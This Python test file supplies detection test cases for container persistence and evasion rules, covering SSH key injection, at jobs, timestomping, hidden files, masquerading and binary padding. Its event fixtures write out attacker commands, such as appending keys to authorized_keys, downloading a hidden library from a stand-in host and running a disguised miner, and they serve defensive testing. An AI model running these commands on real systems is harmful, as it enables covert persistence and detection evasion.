"""Golden cases of src/stockade/rules/builtin/stockade_30_evasion.yaml: persistence and defense
evasion on files (SSH authorized keys, at jobs, timestomping, hidden files, masquerading, binary
padding). Variants come from the different tools, shells and library calls that perform each
technique; near misses from ordinary container work (log writing and rotation, archives, package
installs, X11 and database lock files, health checks)."""

from __future__ import annotations

from typing import Any

from pack_events import APPEND, WRITE, PackCase, call, exec_, on_host, open_, v

HOST = on_host()
KEYS = "/root/.ssh/authorized_keys"
#: the flags of a shell's `>` redirection and of its `>>` (dash, bash)
SH_TRUNC = "O_WRONLY|O_CREAT|O_TRUNC"
SH_APPEND = "O_WRONLY|O_CREAT|O_APPEND"
OLD_NS = 0  # 1970-01-01
JAN_2020_NS = 1_577_836_800_000_000_000


def _rename(cmd: str, old: str, new: str, **kw: Any) -> dict[str, Any]:
    return call(
        "renameat2",
        cmd,
        {"evt.arg.oldpath": old, "evt.arg.newpath": new, "fs.path.source": old, "fs.path.target": new},
        **kw,
    )


def _mkdir(cmd: str, path: str, **kw: Any) -> dict[str, Any]:
    return call("mkdirat", cmd, {"evt.arg.path": path, "fd.name": path, "fs.path.name": path}, **kw)


def _utimens(cmd: str, path: str, atime: Any = None, mtime: Any = None, **kw: Any) -> dict[str, Any]:
    args: dict[str, Any] = {
        "evt.arg.dirfd": "AT_FDCWD",
        "evt.arg.path": path,
        "fd.name": path,
        "evt.arg.flags": 0,
    }
    if atime is not None:
        args["evt.arg.atime"] = atime
    if mtime is not None:
        args["evt.arg.mtime"] = mtime
    return call("utimensat", cmd, args, **kw)


def _script(path: str, interp: str = "/usr/bin/dash", args: str = "", **kw: Any) -> dict[str, Any]:
    """The execve of a script with a shebang: comm is the script's name, argv[0] the interpreter,
    the executable (proc.exepath) the interpreter, evt.arg.filename the script as passed."""
    e = exec_(f"{path} {args}".rstrip(), {"evt.arg.filename": path}, exepath=interp, **kw)
    e["proc.exe"] = interp
    e["proc.args"] = f"{path} {args}".rstrip()
    return e


def _binary(path: str, args: str = "", **kw: Any) -> dict[str, Any]:
    """The execve of an ELF file `path` (argv[0] = path)."""
    return exec_(f"{path} {args}".rstrip(), {"evt.arg.filename": path}, exepath=path, **kw)


def _dd(args: str, stdout: str, parent_cmd: str) -> dict[str, Any]:
    return exec_(
        f"dd {args}",
        {
            "evt.arg.filename": "/usr/bin/dd",
            "proc.stdout.type": "file" if stdout.startswith("/") else "pipe",
            "proc.stdout.name": stdout,
            "proc.pcmdline": parent_cmd,
        },
        ancestors=["sh", "conmon"],
    )


CASES: list[PackCase] = [
    PackCase(
        "SSH Authorized Keys Modified in Container",
        fires=[
            v(
                "echo >> (dash)",
                open_(KEYS, "sh -c echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", SH_APPEND),
            ),
            v(
                'the file rewritten with its own content (x=$(cat f); echo "$x" > f)',
                open_(
                    KEYS,
                    'sh -c k=$(cat ~/.ssh/authorized_keys); echo "$k" > ~/.ssh/authorized_keys',
                    SH_TRUNC,
                ),
            ),
            v("tee -a", open_(KEYS, "tee -a /root/.ssh/authorized_keys", "O_WRONLY|O_CREAT|O_APPEND")),
            v(
                "cp a key file",
                open_("/home/app/.ssh/authorized_keys2", "cp /tmp/k /home/app/.ssh/authorized_keys2", WRITE),
            ),
            v("python open 'a'", open_(KEYS, "python3 -c open('/root/.ssh/authorized_keys','a')", APPEND)),
            v("install -m 600", open_(KEYS, "install -m 600 /tmp/k /root/.ssh/authorized_keys", WRITE)),
            v(
                "sed -i renames its temp file over it",
                _rename("sed -i s/^#// authorized_keys", "/root/.ssh/sedX1b2c3", KEYS),
            ),
            v("mv a key file onto it", _rename("mv /tmp/key /root/.ssh/authorized_keys", "/tmp/key", KEYS)),
            v(
                "ln a key file onto it",
                call(
                    "linkat",
                    "ln /tmp/key /root/.ssh/authorized_keys",
                    {"evt.arg.oldpath": "/tmp/key", "evt.arg.newpath": KEYS},
                ),
            ),
            v(
                "ln -s a key file onto it",
                call(
                    "symlinkat",
                    "ln -s /tmp/key authorized_keys",
                    {"evt.arg.target": "/tmp/key", "evt.arg.linkpath": KEYS},
                ),
            ),
            v(
                "AuthorizedKeysFile added to sshd_config",
                open_(
                    "/etc/ssh/sshd_config",
                    "sh -c echo AuthorizedKeysFile /tmp/k >> /etc/ssh/sshd_config",
                    SH_APPEND,
                ),
            ),
            v(
                "an sshd_config.d drop-in",
                open_("/etc/ssh/sshd_config.d/99-x.conf", "tee /etc/ssh/sshd_config.d/99-x.conf", WRITE),
            ),
            v(
                "the container's own command (pid 1)",
                open_(KEYS, "sh -c echo k >> ~/.ssh/authorized_keys", SH_APPEND, vpid=1),
            ),
        ],
        near_misses=[
            v("sshd reads it", open_(KEYS, "sshd: root [priv]")),
            v("cat reads it", open_(KEYS, "cat /root/.ssh/authorized_keys")),
            v(
                "ssh-keygen writes the user's own key",
                open_("/root/.ssh/id_ed25519.pub", "ssh-keygen -t ed25519", WRITE),
            ),
            v(
                "known_hosts written by ssh",
                open_("/root/.ssh/known_hosts", "ssh -o StrictHostKeyChecking=no h", APPEND),
            ),
            v(
                "sshd_config written by dpkg",
                open_("/etc/ssh/sshd_config", "dpkg --configure -a", WRITE, ancestors=["apt-get", "sh"]),
            ),
            v("mv elsewhere in ~/.ssh", _rename("mv a b", "/root/.ssh/a", "/root/.ssh/config")),
            v("on the host", open_(KEYS, "sh -c echo k >> k", APPEND, where=HOST)),
        ],
    ),
    PackCase(
        "At Job Scheduled in Container",
        fires=[
            v("echo cmd | at now + 1 minute", exec_("at now + 1 minute", ancestors=["sh", "conmon"])),
            v("at -f script", exec_("at -f /tmp/job.sh now + 2 minutes")),
            v("at -t a time", exec_("at -t 202612071200")),
            v("at -m -q b", exec_("at -m -q b now")),
            v("batch", exec_("batch")),
            v("at in the container's command (pid 1 is sh)", exec_("at midnight", vpid=2, ancestors=["sh"])),
            v(
                "at writes its job",
                open_("/var/spool/cron/atjobs/a0000101a5f3c2", "at now", "O_WRONLY|O_CREAT|O_EXCL|O_TRUNC"),
            ),
            v(
                "a job file dropped by hand",
                open_("/var/spool/cron/atjobs/a0000201a5f3c2", "cp /tmp/j /var/spool/cron/atjobs/", WRITE),
            ),
            v(
                "RHEL's spool",
                open_("/var/spool/at/a00001019abcd", "sh -c cat > /var/spool/at/a00001019abcd", SH_TRUNC),
            ),
        ],
        near_misses=[
            v("atq", exec_("atq")),
            v("at -l", exec_("at -l")),
            v("at -c shows a job", exec_("at -c 3")),
            v("atrm", exec_("atrm 3")),
            v("at -r", exec_("at -r 3")),
            v("at -d", exec_("at -d 3")),
            v("at -V", exec_("at -V")),
            v("atd runs a job", open_("/var/spool/cron/atspool/a00001019abcd", "atd", WRITE)),
            v("at's spool read", open_("/var/spool/cron/atjobs/.SEQ", "atq")),
            v("a cron table is not an at job", open_("/var/spool/cron/crontabs/root", "crontab -", WRITE)),
            v("on the host", exec_("at now + 1 minute", where=HOST)),
        ],
    ),
    PackCase(
        "File Timestamp Changed in Container",
        fires=[
            v("touch -a -t 197001010000.00", exec_("touch -a -t 197001010000.00 /tmp/f")),
            v("touch -m -t", exec_("touch -m -t 202001010000 /tmp/f")),
            v("touch -d", exec_("touch -d 2019-05-01 /usr/bin/x")),
            v("touch --date=", exec_("touch --date=@0 /tmp/f")),
            v("touch -acmr ref", exec_("touch -acmr /bin/sh /tmp/f")),
            v("touch --reference", exec_("touch --reference=/bin/ls /tmp/x")),
            v(
                "utimensat of touch -a -t (atime set, mtime omitted)",
                _utimens("touch -a -t 197001010000.00 /tmp/f", "/tmp/f", OLD_NS, "UTIME_OMIT"),
            ),
            v(
                "utimensat of touch -r",
                _utimens("touch -acmr /bin/sh /tmp/f", "/tmp/f", JAN_2020_NS, JAN_2020_NS),
            ),
            v(
                "python os.utime",
                _utimens("python3 -c import os; os.utime('/tmp/f', (0, 0))", "/tmp/f", OLD_NS, OLD_NS),
            ),
            v(
                "perl utime (utimes)",
                call(
                    "utimes",
                    "perl -e utime 0, 0, '/tmp/f'",
                    {"evt.arg.path": "/tmp/f", "fd.name": "/tmp/f", "evt.arg.atime": 0, "evt.arg.mtime": 0},
                ),
            ),
            v("date sets the clock (MMDDhhmmYYYY)", exec_("date 010100001971")),
            v("date -s", exec_("date -s 1971-01-01")),
            v("in the container's command (pid 1)", exec_("touch -t 197001010000 /tmp/f", vpid=1)),
        ],
        near_misses=[
            v("plain touch (times NULL)", _utimens("touch /tmp/healthy", "/tmp/healthy")),
            v("touch with UTIME_NOW", _utimens("touch /tmp/f", "/tmp/f", "UTIME_NOW", "UTIME_NOW")),
            v(
                "touch -a (atime now, mtime omitted)",
                _utimens("touch -a /tmp/f", "/tmp/f", "UTIME_NOW", "UTIME_OMIT"),
            ),
            v("plain touch exec", exec_("touch /tmp/healthy")),
            v("touch -c", exec_("touch -c /var/run/app.pid")),
            v(
                "tar -x preserves times",
                _utimens("tar -xzf app.tgz", "/srv/app/index.html", JAN_2020_NS, JAN_2020_NS),
            ),
            v("cp -p", _utimens("cp -p a b", "/tmp/b", JAN_2020_NS, JAN_2020_NS)),
            v(
                "gzip of a rotated log",
                _utimens("gzip /var/log/app.log.1", "/var/log/app.log.1.gz", JAN_2020_NS, JAN_2020_NS),
            ),
            v("rsync -a", _utimens("rsync -a src/ dst/", "/dst/x", JAN_2020_NS, JAN_2020_NS)),
            v("unzip", _utimens("unzip x.zip", "/tmp/x/a", JAN_2020_NS, JAN_2020_NS)),
            v(
                "dpkg unpacking",
                _utimens(
                    "dpkg --unpack x.deb", "/usr/bin/x", JAN_2020_NS, JAN_2020_NS, ancestors=["apt-get"]
                ),
            ),
            v(
                "pip installing (python under pip)",
                _utimens(
                    "python3 -m pip install x",
                    "/usr/lib/x.py",
                    JAN_2020_NS,
                    JAN_2020_NS,
                    ancestors=["pip", "sh"],
                ),
            ),
            v(
                "a failed utimensat",
                {**_utimens("python3 t.py", "/etc/x", 0, 0), "evt.rawres": -1, "evt.res": "EPERM"},
            ),
            v("date prints a format", exec_("date +%m%d%H%M%Y")),
            v("date -d parses a date", exec_("date -d 20240101 +%s")),
            v("date -Iseconds", exec_("date -Iseconds")),
            v("on the host", exec_("touch -t 197001010000 /tmp/f", where=HOST)),
        ],
    ),
    PackCase(
        "Hidden File or Directory Created in Container",
        fires=[
            v(
                "mkdir /var/tmp/.hidden",
                _mkdir("mkdir /var/tmp/.hidden-directory", "/var/tmp/.hidden-directory"),
            ),
            v(
                "a dot-file in the hidden directory (echo >)",
                open_(
                    "/var/tmp/.hidden-directory/.hidden-file",
                    "sh -c echo x > /var/tmp/.hidden-directory/.hidden-file",
                    SH_TRUNC,
                ),
            ),
            v("a dot-file in /tmp (cp)", open_("/tmp/.x", "cp /bin/ls /tmp/.x", WRITE)),
            v(
                "mkdir /dev/shm/.cache-x (python os.mkdir)",
                _mkdir("python3 -c import os; os.mkdir('/dev/shm/.s')", "/dev/shm/.s"),
            ),
            v("a hidden directory in /", _mkdir("mkdir /.tools", "/.tools")),
            v(
                "a hidden file below /usr/lib",
                open_("/usr/lib/.libsys.so", "curl -o /usr/lib/.libsys.so http://x", WRITE),
            ),
            v("mkdir $HOME/... (dots only, anywhere)", _mkdir("mkdir /root/...", "/root/...")),
            v("a file inside $HOME/...", open_("/root/.../sh", "cp /bin/sh /root/.../sh", WRITE)),
            v("mkdir '. ' in an app directory", _mkdir("mkdir /srv/app/. ", "/srv/app/. ")),
            v("mv to a dot-name in /tmp", _rename("mv /tmp/x /tmp/.x", "/tmp/x", "/tmp/.x")),
            v("the container's own command (pid 1)", _mkdir("sh -c mkdir /tmp/.h", "/tmp/.h", vpid=1)),
        ],
        near_misses=[
            v("X11 socket directory", _mkdir("Xvfb :99", "/tmp/.X11-unix")),
            v("ICE directory by another program", _mkdir("sh -c mkdir -p /tmp/.ICE-unix", "/tmp/.ICE-unix")),
            v("~/.cache with HOME=/", _mkdir("pip3 download x", "/.cache")),
            v("wget's HSTS file with HOME=/tmp", open_("/tmp/.wget-hsts", "wget -qO- localhost:8080", WRITE)),
            v("a dotfile in the home directory", _mkdir("npm install", "/root/.npm")),
            v("~/.config with HOME=/tmp", open_("/tmp/.config/app/settings.json", "node app.js", WRITE)),
            v("passwd's lock file", open_("/etc/.pwd.lock", "useradd bob", "O_WRONLY|O_CREAT|O_CLOEXEC")),
            v(
                "postgres socket lock",
                open_("/tmp/.s.PGSQL.5432.lock", "postgres -D /data", "O_WRONLY|O_CREAT|O_EXCL"),
            ),
            v("the JVM's attach file", open_("/tmp/.attach_pid42", "java -jar app.jar", "O_WRONLY|O_CREAT")),
            v(
                "rsync's temp file",
                open_("/tmp/.data.csv.Ab12Cd", "rsync -a src/ /tmp/", "O_WRONLY|O_CREAT|O_EXCL"),
            ),
            v("an ordinary file in /tmp", open_("/tmp/app.log", "sh -c echo x >> /tmp/app.log", SH_APPEND)),
            v("a dot-file read", open_("/tmp/.x", "cat /tmp/.x")),
            v("an ordinary directory", _mkdir("mkdir /tmp/work", "/tmp/work")),
            v("a .git directory in an app", _mkdir("git init", "/srv/app/.git")),
            v(
                "mv a rotated log",
                _rename("mv /var/log/app.log /var/log/app.log.1", "/var/log/app.log", "/var/log/app.log.1"),
            ),
            v("on the host", _mkdir("mkdir /var/tmp/.h", "/var/tmp/.h", where=HOST)),
        ],
    ),
    PackCase(
        "Masqueraded File Executed in Container",
        fires=[
            v("a double extension script (report.pdf.sh)", _script("/tmp/report.pdf.sh")),
            v("a double extension binary (invoice.doc.exe)", _binary("/tmp/invoice.doc.exe")),
            v("a script named like an image, run directly", _script("/tmp/cat.jpg")),
            v("sh image.png", exec_("sh /tmp/image.png", exepath="/usr/bin/dash")),
            v("bash -x x.jpg", exec_("bash -x /var/tmp/x.jpg", exepath="/usr/bin/bash")),
            v("python3 notes.txt", exec_("python3 /tmp/notes.txt", exepath="/usr/bin/python3.11")),
            v("perl on a .pdf", exec_("perl /tmp/doc.PDF", exepath="/usr/bin/perl")),
            v("a file name with a trailing space", _binary("/tmp/t/init  ", "-e sleep 5")),
            v("a directory with a trailing space", _script("./testdir /init ", "/usr/bin/perl")),
            v("a program in $HOME/...", _binary("/root/.../sh", "-c echo hi")),
            v("a program in a directory named ' '", _binary("/tmp/ /x")),
            v("a hidden program in /tmp", _binary("/tmp/.x/miner")),
            v(
                "the container's own command (pid 1)",
                exec_("sh /tmp/image.png", exepath="/usr/bin/dash", vpid=1),
            ),
        ],
        near_misses=[
            v("a shell script", exec_("sh /docker-entrypoint.sh", exepath="/usr/bin/dash")),
            v("python3 app.py", exec_("python3 /srv/app.py", exepath="/usr/bin/python3.11")),
            v("sh -c naming a .txt", exec_("sh -c cat /tmp/notes.txt", exepath="/usr/bin/dash")),
            v(
                "python3 -m a module with a .txt argument",
                exec_("python3 -m pip install -r requirements.txt"),
            ),
            v(
                "a health-check exec",
                exec_("sh -c wget -qO- localhost:8080", exepath="/usr/bin/dash", ancestors=["conmon"]),
            ),
            v("an ordinary binary", _binary("/usr/local/bin/app", "--port 8080")),
            v("gzip of a .log.1", exec_("gzip /var/log/app.log.1")),
            v("cat of a .txt", exec_("cat /tmp/notes.txt")),
            v("on the host", _script("/tmp/report.pdf.sh", where=HOST)),
            v("a hidden miner (the miner rule's)", _binary("/tmp/.x/xmrig", "--donate-level 1")),
        ],
    ),
    PackCase(
        "Process Masquerading as System Process in Container",
        fires=[
            v("a copy of sh as /tmp/crond", _binary("/tmp/crond")),
            v("a copy as /var/tmp/sshd", _binary("/var/tmp/sshd", "-D")),
            v("kworker in $HOME", _binary("/root/kworker")),
            v("systemd-journald from a home directory", _binary("/home/app/systemd-journald")),
            v("a script named crond in /tmp (shebang)", _script("/tmp/crond")),
            v(
                "./crond run in /tmp",
                {**_binary("./crond"), "proc.exepath": "/tmp/crond", "proc.cwd": "/tmp/"},
            ),
            v(
                "exec -a '[kworker/0:1]'",
                {**exec_("sleep 60", exepath="/usr/bin/sleep"), "proc.exe": "[kworker/0:1]"},
            ),
            v("the container's own command (pid 1)", _binary("/tmp/crond", vpid=1)),
        ],
        near_misses=[
            v("the real cron", _binary("/usr/sbin/cron", "-f")),
            v("the real sshd", _binary("/usr/sbin/sshd", "-D")),
            v("nginx from its install", _binary("/usr/sbin/nginx", "-g daemon off;")),
            v("an ordinary tool in /tmp", _binary("/tmp/app")),
            v("a login shell's argv[0]", {**exec_("bash", exepath="/usr/bin/bash"), "proc.exe": "-bash"}),
            v(
                "a miner named kworker (the miner rule's)",
                _binary("/tmp/kworker", "-o stratum+tcp://198.51.100.3:3333"),
            ),
            v("on the host", _binary("/tmp/crond", where=HOST)),
        ],
    ),
    PackCase(
        "Binary Padding in Container",
        fires=[
            v(
                "the shell opens the binary for dd >> bin",
                open_(
                    "/tmp/evil-binary", "sh -c dd if=/dev/zero bs=1 count=1 >> /tmp/evil-binary", SH_APPEND
                ),
            ),
            v(
                "dd >> bin (dd's stdout appended)",
                _dd(
                    "if=/dev/urandom bs=1 count=1",
                    "/app/bin/server",
                    "sh -c dd if=/dev/urandom bs=1 count=1 >> /app/bin/server",
                ),
            ),
            v(
                "dd of= oflag=append",
                exec_("dd if=/dev/zero of=/opt/app/agent bs=1 count=4 oflag=append conv=notrunc"),
            ),
            v(
                "dd of= conv=notrunc seek",
                exec_("dd if=/dev/random of=/srv/x bs=1 count=1 seek=9000 conv=notrunc"),
            ),
            v("truncate -s +1", exec_("truncate -s +1 /tmp/evil-binary")),
            v("truncate --size=+16", exec_("truncate --size=+16 /srv/app/server")),
            v(
                "truncate(2) growing a binary",
                call(
                    "truncate",
                    "python3 -c os.truncate",
                    {
                        "evt.arg.path": "/tmp/evil-binary",
                        "fd.name": "/tmp/evil-binary",
                        "evt.arg.length": 142313,
                    },
                ),
            ),
            v(
                "ftruncate(2) by the truncate tool",
                call("ftruncate", "truncate -s +1 /tmp/b", {"fd.name": "/tmp/b", "evt.arg.length": 142313}),
            ),
            v(
                "printf x >> a binary in /usr/bin",
                open_("/usr/bin/ls", "bash -c printf x >> /usr/bin/ls", SH_APPEND),
            ),
            v(
                "python open('ab') on a library",
                open_("/usr/lib/libx", "python3 p.py", "O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC"),
            ),
            v(
                "perl >> in /var/tmp",
                open_("/var/tmp/kit", "perl -e open(F,'>>/var/tmp/kit')", "O_WRONLY|O_CREAT|O_APPEND"),
            ),
            v(
                "in the container's command (pid 1)",
                open_("/tmp/evil-binary", "sh -c printf x >> /tmp/evil-binary", SH_APPEND, vpid=1),
            ),
        ],
        near_misses=[
            v("a log append in /tmp", open_("/tmp/app.log", "sh -c echo x >> /tmp/app.log", SH_APPEND)),
            v(
                "a log append below /var/log",
                open_("/var/log/app", "sh -c echo x >> /var/log/app", SH_APPEND),
            ),
            v("a file created with > in /tmp", open_("/tmp/out", "sh -c date > /tmp/out", SH_TRUNC)),
            v(
                "dd to a pipe (secret generation)",
                _dd(
                    "if=/dev/urandom bs=32 count=1",
                    "pipe:[1234]",
                    "sh -c dd if=/dev/urandom bs=32 count=1 | base64",
                ),
            ),
            v(
                "dd > key (truncating)",
                _dd(
                    "if=/dev/urandom bs=32 count=1",
                    "/tmp/key",
                    "sh -c dd if=/dev/urandom bs=32 count=1 > /tmp/key",
                ),
            ),
            v(
                "dd > /dev/null",
                _dd(
                    "if=/dev/zero bs=1M count=10",
                    "/dev/null",
                    "sh -c dd if=/dev/zero bs=1M count=10 >> /dev/null",
                ),
            ),
            v("dd creating a file", exec_("dd if=/dev/zero of=/tmp/disk.img bs=1M count=10")),
            v("truncate -s 0 (log rotation)", exec_("truncate -s 0 /var/log/app.log")),
            v("ftruncate to 0", call("ftruncate", "logrotate", {"fd.name": "/tmp/x", "evt.arg.length": 0})),
            v(
                "ftruncate of shared memory",
                call("ftruncate", "python3 w.py", {"fd.name": "/dev/shm/psm_1a2b", "evt.arg.length": 4096}),
            ),
            v("dpkg", open_("/usr/bin/x", "dpkg --unpack x.deb", SH_APPEND, ancestors=["apt-get"])),
            v(
                "on the host",
                open_("/tmp/evil-binary", "sh -c printf x >> /tmp/evil-binary", SH_APPEND, where=HOST),
            ),
        ],
    ),
]
